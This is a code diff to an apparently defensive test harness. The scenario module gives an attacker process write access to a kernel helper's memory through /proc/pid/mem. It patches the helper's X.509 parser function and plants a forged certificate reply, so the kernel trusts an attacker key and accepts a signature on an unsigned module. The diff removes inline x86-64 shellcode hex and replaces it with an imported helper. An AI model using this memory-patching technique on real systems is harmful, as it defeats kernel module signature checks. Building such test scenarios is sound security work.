@@ -6,7 +6,6 @@ These scenarios exist only for the handler that they name (STAKES of this packag
 
 from __future__ import annotations
 
-import struct
 from errno import EACCES, EPERM, ESRCH
 from functools import partial
 from hashlib import sha256
@@ -16,6 +15,7 @@ from typing import TYPE_CHECKING
 from harness.attacker.tools.certificates import OwnKey, forged_reply
 from harness.attacker.tools.keyrings import add_certificate, trusted_keyring, verify
 from harness.attacker.tools.memory import expect_memory
+from harness.attacker.tools.takeover import KEPT, false_parser
 from harness.model.verdict import Effect
 from harness.scenarios.registry import scenario
 from harness.witness.tally import Violation
@@ -27,11 +27,6 @@ if TYPE_CHECKING:
 VENDOR = "/etc/vendor.der"
 """A certificate that a key in the kernel has signed (harness/guests/initramfs.py)."""
 MESSAGE = b"a module that nobody has signed"
-
-_KEPT = 4096
-"""Where in the handler's arena the forged reply lies: no certificate takes as much of it."""
-_RETURN_IT = "48c7c6{source}4889d7b9{size}f3a431c0c3"
-"""x86-64: mov $source, %rsi; mov %rdx, %rdi; mov $size, %ecx; rep movsb; xor %eax, %eax; ret."""
 
 _by_proc_mem = partial(
     scenario,
@@ -79,16 +74,11 @@ def _add_forged(
     """Overwrite the parser, so that it has the kernel take the key for the vendor's, and use it."""
     with attacker.setup():
         ring = trusted_keyring(attacker)
-        place = handler.symbol("arena") + _KEPT
+        place = handler.symbol("arena") + KEPT
         reply = forged_reply(blob, vendor, key.public)
-        code = _RETURN_IT.format(source=_le32(place), size=_le32(len(reply)))
     expect_memory(attacker, handler.pid)
     with attacker.open(f"/proc/{handler.pid}/mem", O_RDWR) as memory:
         memory.pwrite(reply, place)
-        memory.pwrite(bytes.fromhex(code), handler.symbol("umd_x509_parse"))
+        memory.pwrite(false_parser(place, len(reply)), handler.symbol("umd_x509_parse"))
     added = add_certificate(attacker, blob, ring)
     verify(attacker, added, sha256(MESSAGE).digest(), key.sign(MESSAGE))
-
-
-def _le32(number: int) -> str:
-    return struct.pack("<I", number).hex()
